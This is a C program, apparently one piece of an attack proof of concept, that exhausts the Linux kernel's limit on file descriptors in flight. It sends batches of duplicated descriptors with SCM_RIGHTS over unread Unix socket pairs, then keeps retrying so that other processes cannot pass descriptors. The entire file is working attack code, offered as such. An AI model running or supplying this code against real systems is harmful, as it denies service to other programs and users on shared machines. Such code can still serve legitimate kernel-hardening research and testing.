// Keeps as many descriptors in flight as the kernel allows: sends them over socket pairs that no process reads. Creates
// the file `full` when the kernel refuses more, and keeps trying, to replace at once what other processes receive.
#include "attack.h"
#include <sys/resource.h>

#define MAX_DESCRIPTORS_PER_MESSAGE 253 // SCM_MAX_FD

int main(void)
{
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);

    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(MAX_DESCRIPTORS_PER_MESSAGE * sizeof(int))];
    } control = {0};
    char byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    control.header = (struct cmsghdr){
        .cmsg_len = CMSG_LEN(MAX_DESCRIPTORS_PER_MESSAGE * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    int null = open("/dev/null", O_RDONLY);
    for (int index = 0; index < MAX_DESCRIPTORS_PER_MESSAGE; index++)
        memcpy(CMSG_DATA(&control.header) + index * sizeof(int), &null, sizeof null);

    long sent = 0;
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends))
        die("socketpair");
    for (;;) {
        if (sendmsg(ends[0], &message, MSG_DONTWAIT) == 1) {
            sent++;
        } else if (errno == EAGAIN || errno == ENOBUFS) {
            if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends))
                die("socketpair");
        } else if (errno == ETOOMANYREFS) {
            int full = open("full", O_CREAT | O_WRONLY, 0644);
            dprintf(full, "%ld\n", sent * MAX_DESCRIPTORS_PER_MESSAGE);
            close(full);
            usleep(100);
        } else {
            die("sendmsg");
        }
    }
}
